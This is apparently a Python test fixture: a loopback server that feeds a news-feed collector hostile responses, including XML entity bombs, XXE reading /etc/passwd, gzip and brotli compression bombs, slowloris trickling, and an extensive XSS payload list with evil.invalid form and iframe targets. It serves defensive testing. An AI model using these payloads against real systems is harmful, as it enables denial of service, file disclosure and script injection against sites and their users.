"""A loopback HTTP server that answers every way a feed source can hurt a collector.

The collector fetches URLs that operators paste in, from sites that are broken, misconfigured or
malicious. Each endpoint here is one such answer: XML entity bombs and external entities,
compression bombs, endless and trickled bodies, headers that never come, redirect loops, HTML
or junk served as a feed, malformed and truncated XML, impossible dates, control characters,
invalid or mixed encodings, 100,000-character titles (in a feed item, and in the `<title>` and
`<h1>` of an article page), script injection, and any HTTP status. `/markup.xml`, `/markup.atom`
and `/markup.json` carry script and markup in every field of every format (and `/markup/page`
in an article page), for the end-to-end security test (`tests/test_security.py`). The
collector's tests point it here and assert that it fails cleanly (an error recorded, nothing
stored, no hang, no file or network access through XML). `/valid.xml` is the control that
must still work.

Stdlib only (the markup feeds borrow the sample site's article texts). `stop()` is quick even
while a response is being trickled: every wait checks the stop event, and open connections
are shut down so blocked writes fail at once.
"""

from __future__ import annotations

import contextlib
import functools
import json
import random
import re
import socket
import threading
import zlib
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from email.utils import format_datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

from syndicator.demo.content import load_articles
from syndicator.demo.loopback import Loopback

HUGE_SIZE = 100 * 2**20  # bytes of /huge and /huge-chunked, and (at least) of each bomb expanded
CHUNK = 64 * 2**10
TRICKLE_INTERVAL = 0.5  # seconds between two bytes of /slowloris
SLOW_HEADERS_DELAY = 30.0
RETRY_AFTER = 7  # seconds, on /status/429 and /status/503
SECRET = "TOP-SECRET-7f3a9c"  # the body of /secret: must never appear in a parsed feed
RSS = "application/rss+xml; charset=UTF-8"
HTML = "text/html; charset=UTF-8"
LONG_TITLE = 100_000  # characters of the titles of /long-title.xml and of its article page
_BOMB_HEAD = b'<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0"><channel><title>bomb'
_BOMB_TAIL = b"</title></channel></rss>\n"


# The brotli bomb, made once with the `brotli` package (quality 5) from _BOMB_HEAD, HUGE_SIZE
# spaces and _BOMB_TAIL, and kept as bytes so this module needs nothing beyond the stdlib.
# tests/fakes/test_hostile.py decompresses it to check that it still expands that far.
BROTLI_BOMB = bytes.fromhex(
    "cbffff3f00444fd695f490e5ef5297998dc229c7816a4bd34813c8e4c276f0181e9f534a7b29c677813dbb2eec"
    "0644f00a19f7ce098f78dcb0227fedfe2fa713e2ffff1f001200715800baf77ffcffff034002200e0b40f7fe8f"
    "ffff7f004800c46101e8defff1ffff0f000980382c00ddfb3ffeffff012001108705a07bffc7ffff3f002400e2"
    "b00074effff8ffff078004401c1680eefd1fffffff00900088c302d0bdffe3ffff1f001200715800baf77ffcff"
    "ff034002200e0b40f7fe8fffff7f004800c46101e8deffa51900100001879c6772902f856a4b7401e63005e023"
    "e0ff48fb35806c8b01aaec6f00"
)


@functools.cache
def gzip_bomb() -> bytes:
    """About 100 KB of gzip that expands to more than 100 MB (built on first use, then cached:
    compressing takes a quarter of a second)."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)  # wbits 31: the gzip container
    filler = b" " * 2**20
    parts = [compressor.compress(_BOMB_HEAD)]
    parts += [compressor.compress(filler) for _ in range(HUGE_SIZE // len(filler))]
    parts += [compressor.compress(_BOMB_TAIL), compressor.flush()]
    return b"".join(parts)


def huge_body() -> Iterator[bytes]:
    """`HUGE_SIZE` bytes of a never-ending feed, generated chunk by chunk, never held whole."""
    head = b'<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0"><channel><title>'
    tail = b"</title></channel></rss>\n"
    yield head
    left = HUGE_SIZE - len(head) - len(tail)
    filler = b"A" * CHUNK
    while left > 0:
        yield filler[: min(left, CHUNK)]
        left -= CHUNK
    yield tail


def rss(items: str, *, doctype: str = "", title: str = "موقع اختبار") -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n{doctype}<rss version="2.0">\n<channel>\n'
        f"<title>{title}</title>\n<link>http://example.invalid/</link>\n"
        f"<description>خلاصة اختبار</description>\n<language>ar</language>\n{items}"
        "</channel>\n</rss>\n"
    )


def item(title: str, link: str, description: str = "نص الخبر.", pub_date: str = "") -> str:
    date = f"<pubDate>{pub_date}</pubDate>" if pub_date else ""
    return (
        f"<item><title>{title}</title><link>{link}</link><guid>{link}</guid>"
        f"<description>{description}</description>{date}</item>\n"
    )


_VALID_ITEMS = (
    ("افتتاح معرض الكتاب في عمّان بمشاركة 300 دار نشر", "Wed, 18 Nov 2026 09:00:00 GMT"),
    ("ارتفاع أسعار الذهب في الأسواق العربية مع تراجع الدولار", "Wed, 18 Nov 2026 08:00:00 GMT"),
)


class HostileServer(Loopback):
    """The hostile endpoints on loopback; see the module docstring and `url()`."""

    def __init__(self, host: str = "127.0.0.1", port: int = 0) -> None:
        super().__init__(host, port)
        self._lock = threading.Lock()
        self._secret_requested = False
        self._paths: list[str] = []
        self._connections: dict[socket.socket, threading.Thread] = {}

    def _bind(self, address: tuple[str, int]) -> ThreadingHTTPServer:
        return _Server(address, self)

    def _after_stop(self) -> None:
        """Cut every open connection and join the handlers, so stop() is quick."""
        with self._lock:
            connections = list(self._connections.items())
        for conn, _ in connections:
            with contextlib.suppress(OSError):
                conn.shutdown(socket.SHUT_RDWR)  # a blocked send or recv fails at once
        for _, handler in connections:
            handler.join(timeout=1.0)

    def url(self, path: str = "/") -> str:
        return self.origin + path

    @property
    def secret_requested(self) -> bool:
        """Whether anything ever fetched `/secret` (the target of `/xxe-http.xml`)."""
        with self._lock:
            return self._secret_requested

    @property
    def requests(self) -> list[str]:
        """Paths requested, in order."""
        with self._lock:
            return list(self._paths)

    # -- called by the handler -------------------------------------------------------------

    def _arrive(self, path: str) -> None:
        with self._lock:
            self._paths.append(path)
            if path.split("?", 1)[0] == "/secret":
                self._secret_requested = True

    def _open(self, conn: socket.socket) -> None:
        with self._lock:
            self._connections[conn] = threading.current_thread()

    def _close(self, conn: socket.socket) -> None:
        with self._lock:
            self._connections.pop(conn, None)


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    block_on_close = False  # HostileServer.stop() joins the handlers itself

    def __init__(self, address: tuple[str, int], owner: HostileServer) -> None:
        super().__init__(address, _Handler)
        self.owner = owner


class _Handler(BaseHTTPRequestHandler):
    server: _Server
    protocol_version = "HTTP/1.1"
    server_version = "nginx"
    sys_version = ""
    timeout = 10  # a client that connects and says nothing does not hold a thread forever

    def setup(self) -> None:
        super().setup()
        self.server.owner._open(self.connection)

    def finish(self) -> None:
        try:
            super().finish()
        finally:
            self.server.owner._close(self.connection)

    def log_message(self, format: str, *args: Any) -> None:
        """Quiet: paths are recorded in `HostileServer.requests`."""

    @property
    def _stopping(self) -> threading.Event:
        return self.server.owner._stopping

    def do_GET(self) -> None:
        self.close_connection = True
        path = self.path.split("?", 1)[0]
        self.server.owner._arrive(self.path)
        # OSError: the client went away, or stop() cut the connection: nothing left to do.
        with contextlib.suppress(OSError):
            self._route(path)

    def _route(self, path: str) -> None:
        simple = _SIMPLE.get(path)
        if simple is not None:
            body, content_type = simple(self.server.owner)
            self._send(200, body, content_type)
        elif path == "/gzip-bomb.xml":
            self._send(200, gzip_bomb(), RSS, [("Content-Encoding", "gzip")])
        elif path == "/brotli-bomb.xml":
            self._send(200, BROTLI_BOMB, RSS, [("Content-Encoding", "br")])
        elif path in ("/huge", "/huge-chunked"):
            self._stream_huge(chunked=path == "/huge-chunked")
        elif path == "/slowloris":
            self._trickle()
        elif path == "/slow-headers":
            if not self._stopping.wait(SLOW_HEADERS_DELAY):
                self._send(200, _valid(self.server.owner)[0], RSS)
        elif path == "/redirect-loop":
            self._send(302, b"", None, [("Location", self.server.owner.url("/redirect-loop"))])
        elif m := re.fullmatch(r"/redirect-chain/(\d{1,3})", path):
            hops = int(m.group(1))
            if hops == 0:
                self._send(200, _valid(self.server.owner)[0], RSS)
            else:
                target = f"/redirect-chain/{hops - 1}" if hops > 1 else "/valid.xml"
                self._send(302, b"", None, [("Location", self.server.owner.url(target))])
        elif (m := re.fullmatch(r"/status/(\d{3})", path)) and 200 <= int(m.group(1)) <= 599:
            code = int(m.group(1))
            headers = [("Retry-After", str(RETRY_AFTER))] if code in (429, 503) else []
            body = b"" if code in (204, 304) else f"status {code}\n".encode()
            self._send(code, body, "text/plain; charset=UTF-8", headers)
        elif path == "/secret":
            self._send(200, SECRET.encode(), "text/plain; charset=UTF-8")
        else:
            self._send(404, b"not found\n", "text/plain; charset=UTF-8")

    def _send(
        self,
        status: int,
        body: bytes,
        content_type: str | None,
        headers: list[tuple[str, str]] | None = None,
    ) -> None:
        self.send_response(status)
        if content_type is not None:
            self.send_header("Content-Type", content_type)
        for name, value in headers or ():
            self.send_header(name, value)
        if status not in (204, 304):
            self.send_header("Content-Length", str(len(body)))
        self.send_header("Connection", "close")
        self.end_headers()
        if body and status not in (204, 304):
            self.wfile.write(body)

    def _stream_huge(self, *, chunked: bool) -> None:
        self.send_response(200)
        self.send_header("Content-Type", RSS)
        if chunked:
            self.send_header("Transfer-Encoding", "chunked")
        else:
            self.send_header("Content-Length", str(HUGE_SIZE))
        self.send_header("Connection", "close")
        self.end_headers()
        for piece in huge_body():
            if self._stopping.is_set():
                return
            self.wfile.write(b"%x\r\n%s\r\n" % (len(piece), piece) if chunked else piece)
        if chunked:
            self.wfile.write(b"0\r\n\r\n")

    def _trickle(self) -> None:
        """Headers at once, then one byte every half second until the client goes away."""
        self.send_response(200)
        self.send_header("Content-Type", RSS)
        self.send_header("Connection", "close")  # no length: the body ends when we close
        self.end_headers()
        self.wfile.flush()
        body = rss(item("عنوان", "http://example.invalid/1")).encode()
        n = 0
        while not self._stopping.wait(TRICKLE_INTERVAL):
            self.wfile.write(body[n % len(body) : n % len(body) + 1])
            self.wfile.flush()
            n += 1


# -- the documents -------------------------------------------------------------------------------


def _valid(owner: HostileServer) -> tuple[bytes, str]:
    items = "".join(
        item(title, owner.url(f"/news/{n}"), f"{title}، بحسب مصادر رسمية.", date)
        for n, (title, date) in enumerate(_VALID_ITEMS, 1)
    )
    return rss(items, title="أخبار موثوقة").encode(), RSS


def _billion_laughs(owner: HostileServer) -> tuple[bytes, str]:
    entities, previous = ['<!ENTITY lol "lol">'], "lol"
    for level in range(1, 10):
        entities.append(f'<!ENTITY lol{level} "{f"&{previous};" * 10}">')
        previous = f"lol{level}"
    doctype = "<!DOCTYPE rss [\n" + "\n".join(entities) + "\n]>\n"
    return rss(item("&lol9;", owner.url("/laughs"), "&lol9;"), doctype=doctype).encode(), RSS


def _quadratic_blowup(owner: HostileServer) -> tuple[bytes, str]:
    doctype = f'<!DOCTYPE rss [\n<!ENTITY a "{"x" * 100_000}">\n]>\n'
    body = rss(item("عنوان", owner.url("/blowup"), "&a;" * 20_000), doctype=doctype)
    return body.encode(), RSS


def _xxe(target: str, owner: HostileServer) -> tuple[bytes, str]:
    doctype = f'<!DOCTYPE rss [\n<!ENTITY xxe SYSTEM "{target}">\n]>\n'
    return rss(item("&xxe;", owner.url("/xxe"), "&xxe;"), doctype=doctype).encode(), RSS


def _html_as_feed(owner: HostileServer) -> tuple[bytes, str]:
    page = (
        '<!DOCTYPE html>\n<html lang="ar" dir="rtl"><head><meta charset="UTF-8">'
        "<title>الرئيسية</title></head><body><h1>آخر الأخبار</h1>"
        f'<ul><li><a href="{owner.url("/news/1")}">خبر</a></li></ul></body></html>\n'
    )
    return page.encode(), RSS


def _malformed(owner: HostileServer) -> tuple[bytes, str]:
    text = rss(
        item("الخبر الأول السليم", owner.url("/news/1"), "نص <b>غير مغلق")
        + item("الخبر الثاني السليم", owner.url("/news/2"), "فقرة <p>بلا إغلاق <i>أيضاً")
        + "<item><title>خبر ثالث مقطوع في منتصف العنوا"
    )
    return text[: text.index("</channel>")].encode(), RSS  # truncated: no closing tags


def _impossible_dates(owner: HostileServer) -> tuple[bytes, str]:
    future = format_datetime(datetime(2125, 6, 1, 12, 0, tzinfo=UTC), usegmt=True)
    dates = (
        "Fri, 31 Dec 9999 23:59:59 GMT",
        "Sat, 00 Jan 0000 00:00:00 GMT",
        "32 Foo 2020 25:61:61 +9900",
        "Tue, 01 Jan 1901 00:00:00 GMT",
        future,
    )
    items = "".join(
        item(f"خبر بتاريخ مستحيل {n}", owner.url(f"/dates/{n}"), "نص.", date)
        for n, date in enumerate(dates, 1)
    )
    return rss(items).encode(), RSS


def _control_chars(owner: HostileServer) -> tuple[bytes, str]:
    huge_title = ("عنوان طويل جداً " * 7000)[:100_000]
    items = (
        item("عاجل\x00: انفجار\x0b في\x1b[31m الميناء", owner.url("/cc/1"), "نص\x00 فيه\x1b[0m")
        + item("خبر\x85 فيه\x9b محارف C1", owner.url("/cc/2"), "وصف\x80\x9f")
        + item(huge_title, owner.url("/cc/3"), "عنوان من مئة ألف حرف")
        + item("\u202egnp.exe خبر معكوس", owner.url("/cc/4"), "نص \u202eمعكوس\u202c هنا")
    )
    return rss(items).encode(), RSS


def long_title(words: str) -> str:
    """`LONG_TITLE` characters of `words`, repeated with spaces between."""
    return ((words + " ") * (LONG_TITLE // len(words) + 1))[:LONG_TITLE]


def _long_title(owner: HostileServer) -> tuple[bytes, str]:
    """A 100,000-character title in the feed, and an untitled item whose page has one."""
    items = item(long_title("عنوان طويل في الخلاصة"), owner.url("/long-title/1"), "وصف قصير.")
    items += (  # no <title>: the pipeline takes the page's, which is as long
        f"<item><link>{owner.url('/long-title/page')}</link>"
        "<description>مقدمة قصيرة.</description></item>\n"
    )
    return rss(items).encode(), RSS


def _long_title_page(owner: HostileServer) -> tuple[bytes, str]:
    title = long_title("عنوان طويل في الصفحة")
    paragraphs = "".join(
        f"<p>هذه الفقرة رقم {n} من نص الخبر، وفيها ما يكفي من الكلمات العربية لكي يجدها"
        " المستخرج ويعدّها متن المقال لا حاشية من حواشي القالب.</p>"
        for n in range(1, 9)
    )
    page = (
        '<!DOCTYPE html>\n<html lang="ar" dir="rtl"><head><meta charset="UTF-8">'
        f"<title>{title}</title></head><body><article><h1>{title}</h1>{paragraphs}"
        "</article></body></html>\n"
    )
    return page.encode(), HTML


def _invalid_utf8(owner: HostileServer) -> tuple[bytes, str]:
    good = rss(
        item("عنوان @1@", owner.url("/bad/1"), "وصف @2@")
        + item("خبر سليم", owner.url("/bad/2"), "وصف سليم")
    ).encode()
    bad1 = b"\xff\xfe \xc3\x28 \xe2\x82"  # impossible bytes, bad continuation, truncated
    bad2 = b"\xc0\xaf \xed\xa0\x80 \xf8\x88\x80\x80\x80"  # overlong, surrogate, 5-byte form
    return good.replace(b"@1@", bad1).replace(b"@2@", bad2), RSS


def _mixed_encoding(owner: HostileServer) -> tuple[bytes, str]:
    text = rss(
        item("خبر بترميز UTF-8", owner.url("/mixed/1"), "وصف سليم")
        + item("@title@", owner.url("/mixed/2"), "@description@")
    ).encode()
    title = "خبر بترميز ويندوز العربي".encode("windows-1256")
    description = "هذا الوصف مرمّز بـ windows-1256 داخل ملف UTF-8".encode("windows-1256")
    return text.replace(b"@title@", title).replace(b"@description@", description), RSS


def _script(owner: HostileServer) -> tuple[bytes, str]:
    payload = (
        '<script>alert("xss")</script><img src="x" onerror="alert(1)">'
        '<a href="javascript:alert(2)">اضغط هنا</a><iframe src="http://evil.invalid/"></iframe>'
        "<style>body{display:none}</style>"
    )
    escaped = payload.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    items = (
        item("عنوان &lt;script&gt;alert(1)&lt;/script&gt;", owner.url("/x/1"), escaped)
        + "<item><title>رابط جافاسكربت</title><link>javascript:alert(3)</link>"
        f"<description><![CDATA[{payload}]]></description></item>\n"
        # Escaped twice: the title's text, once decoded, is itself markup.
        + item(
            "عنوان &amp;lt;script&amp;gt;alert(4)&amp;lt;/script&amp;gt; مرمز"
            " &amp;lt;img src=x onerror=alert(5)&amp;gt;مرتين",
            owner.url("/x/2"),
            escaped,
        )
    )
    return rss(items).encode(), RSS


# -- script and markup in every field (tests/test_security.py) ------------------------------

# Everything a page can run, hide or be redirected with, and the spellings sanitizers miss.
MARKUP = (
    '<script>alert("script")</script>'
    '<img src="x" onerror="alert(\'img\')">'
    "<a href=\"javascript:alert('a')\">رابط جافاسكربت</a>"
    "<a href=\" JaVaScRiPt:alert('case')\">رابط بحروف مختلطة</a>"
    "<a href=\"jav&#x09;ascript:alert('tab')\">رابط فيه مسافة</a>"
    '<iframe src="http://evil.invalid/frame"></iframe>'
    '<svg onload="alert(\'svg\')"><circle r="1"/></svg>'
    "<style>body{display:none}</style>"
    "<p style=\"background:url(javascript:alert('css'))\" onclick=\"alert('p')\">فقرة بنقرة</p>"
    '&lt;script&gt;alert("entity")&lt;/script&gt;'
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">رابط بيانات</a>'
    "<a href=\"vbscript:msgbox('vb')\">رابط في بي</a>"
    "<img src=\"javascript:alert('src')\">"
    '<object data="http://evil.invalid/x.swf"></object><embed src="http://evil.invalid/x.swf">'
    '<form action="http://evil.invalid/steal"><input name="p"><button>أرسل</button></form>'
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'meta\')">'
    "<base href=\"javascript:alert('base')//\">"
    '<math><mtext><script>alert("math")</script></mtext></math>'
)
# Words that must stay readable in every output, one per titled item of the markup feeds.
MARKUP_WORDS = (
    "خبر أول", "خبر ثان", "خبر ثالث", "خبر الصورة", "خبر أتوم", "خبر أتوم الثاني",
    "خبر جيسون", "خبر جيسون الثاني",
)  # fmt: skip
MARKUP_ARTICLES = 10  # how many articles the three markup feeds make (their other items: none)
_BAD_LINKS = (
    "javascript:alert('link')",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox('link')",
)


def _escaped(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _prose(n: int) -> str:
    """The paragraphs of the sample site's article `n` (each item tells another story: the
    markup they share must not make them one story, posted once)."""
    return "".join(f"<p>{_escaped(p)}</p>" for p in load_articles()[n].paragraphs)


def _markup_rss(owner: HostileServer) -> tuple[bytes, str]:
    def entry(title: str, n: int, extra: str = "", link: str = "") -> str:
        content = MARKUP + _prose(n)
        return (
            f"<item><title>{title}</title><link>{link or owner.url(f'/markup/{n}')}</link>"
            f"<description>{_escaped(content)}</description>"
            f"<content:encoded><![CDATA[{content}]]></content:encoded>{extra}</item>\n"
        )

    items = (
        entry("عاجل &lt;script&gt;alert('t1')&lt;/script&gt; خبر أول", 0)
        + entry("&amp;lt;img src=x onerror=alert('t2')&amp;gt;خبر ثان &amp;lt;b&amp;gt;", 1)
        + entry("<![CDATA[<svg onload=alert('t3')>خبر ثالث</svg> <a href='javascript:x'>]]>", 2)
        + entry(
            "خبر الصورة",
            4,
            '<enclosure url="javascript:alert(\'enclosure\')" type="image/jpeg"'
            ' length="1"/><media:content url="data:image/svg+xml,&lt;svg onload=alert(1)&gt;"/>',
        )
        + "".join(
            entry("خبر برابط خبيث", k, link=_escaped(bad)) for k, bad in enumerate(_BAD_LINKS)
        )
        + f"<item><link>{owner.url('/markup/page')}</link>"
        "<description>مقدمة.</description></item>\n"
        + entry(_escaped(long_title("عنوان طويل <b>جدا</b>")), 3)
    )
    body = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0"'
        ' xmlns:content="http://purl.org/rss/1.0/modules/content/"'
        ' xmlns:media="http://search.yahoo.com/mrss/">\n<channel>\n'
        "<title>موقع &lt;script&gt;alert('channel')&lt;/script&gt;</title>\n"
        f"<link>{owner.url('/')}</link><description>خلاصة</description>\n{items}</channel>\n</rss>\n"
    )
    return body.encode(), RSS


def _markup_atom(owner: HostileServer) -> tuple[bytes, str]:
    def entry(n: int, title: str, content: str, link: str = "") -> str:
        href = link or owner.url(f"/markup/{n}")
        return (
            f'<entry><id>urn:markup:{n}</id><title type="html">{title}</title>'
            f'<link rel="alternate" href="{href}"/><updated>2026-11-18T09:00:00Z</updated>'
            f'<summary type="html">{_escaped(MARKUP)}</summary>{content}</entry>\n'
        )

    entries = (
        entry(
            20,
            _escaped("<b>خبر أتوم</b> <script>alert('atom')</script>"),
            f'<content type="html">{_escaped(MARKUP + _prose(5))}</content>',
        )
        + entry(
            21,
            "خبر أتوم الثاني &amp;lt;iframe src=x&amp;gt;",
            '<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">'
            "<script>alert('xhtml')</script><p onclick=\"alert('xhtml')\">نص</p>"
            f"<a href=\"javascript:alert('xhtml')\">رابط</a>{_prose(6)}</div></content>",
        )
        + entry(22, "خبر برابط خبيث", "", link=_escaped(_BAD_LINKS[0]))
    )
    body = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<feed xmlns="http://www.w3.org/2005/Atom">'
        f"<title>أتوم</title><id>{owner.url('/markup.atom')}</id>"
        f'<updated>2026-11-18T09:00:00Z</updated><link href="{owner.url("/")}"/>\n'
        f"{entries}</feed>\n"
    )
    return body.encode(), "application/atom+xml; charset=UTF-8"


def _markup_json(owner: HostileServer) -> tuple[bytes, str]:
    def item(n: int, title: str, **more: str) -> dict[str, str]:
        return {
            "id": f"markup-{n}",
            "url": owner.url(f"/markup/{n}"),
            "title": title,
            "summary": MARKUP,
            "content_html": MARKUP + _prose(n % 10),
            "date_published": "2026-11-18T09:00:00Z",
            **more,
        }

    items = [
        item(7, "خبر جيسون <script>alert('json')</script>", image="javascript:alert('image')"),
        item(8, "خبر جيسون الثاني &lt;img src=x onerror=alert(1)&gt;", banner_image=_BAD_LINKS[1]),
        item(10, "خبر برابط خبيث", url=_BAD_LINKS[0]),
        item(11, "خبر برابط خارجي خبيث", url="", external_url=_BAD_LINKS[2]),
    ]
    document = {
        "version": "https://jsonfeed.org/version/1.1",
        "title": "جيسون <script>alert('feed')</script>",
        "home_page_url": owner.url("/"),
        "items": items,
    }
    return json.dumps(document, ensure_ascii=False).encode(), "application/feed+json"


def _markup_page(owner: HostileServer) -> tuple[bytes, str]:
    page = (
        '<!DOCTYPE html>\n<html lang="ar" dir="rtl"><head><meta charset="UTF-8">'
        "<title>خبر الصفحة &lt;script&gt;alert('title')&lt;/script&gt;</title>"
        '<meta property="og:image" content="javascript:alert(\'og\')">'
        "<script>alert('head')</script></head><body><article>"
        f"<h1>خبر الصفحة <script>alert('h1')</script></h1>{MARKUP}{_prose(9)}"
        "</article></body></html>\n"
    )
    return page.encode(), HTML


def _not_xml(owner: HostileServer) -> tuple[bytes, str]:
    return random.Random(1256).randbytes(4096), "text/xml"


def _empty(owner: HostileServer) -> tuple[bytes, str]:
    return b"", RSS


_SIMPLE: dict[str, Callable[[HostileServer], tuple[bytes, str]]] = {
    "/valid.xml": _valid,
    "/billion-laughs.xml": _billion_laughs,
    "/quadratic-blowup.xml": _quadratic_blowup,
    "/xxe-file.xml": functools.partial(_xxe, "file:///etc/passwd"),
    "/xxe-http.xml": lambda owner: _xxe(owner.url("/secret"), owner),
    "/html-as-feed": _html_as_feed,
    "/empty": _empty,
    "/not-xml": _not_xml,
    "/malformed.xml": _malformed,
    "/impossible-dates.xml": _impossible_dates,
    "/control-chars.xml": _control_chars,
    "/invalid-utf8.xml": _invalid_utf8,
    "/mixed-encoding.xml": _mixed_encoding,
    "/script.xml": _script,
    "/long-title.xml": _long_title,
    "/long-title/page": _long_title_page,
    "/markup.xml": _markup_rss,
    "/markup.atom": _markup_atom,
    "/markup.json": _markup_json,
    "/markup/page": _markup_page,
}
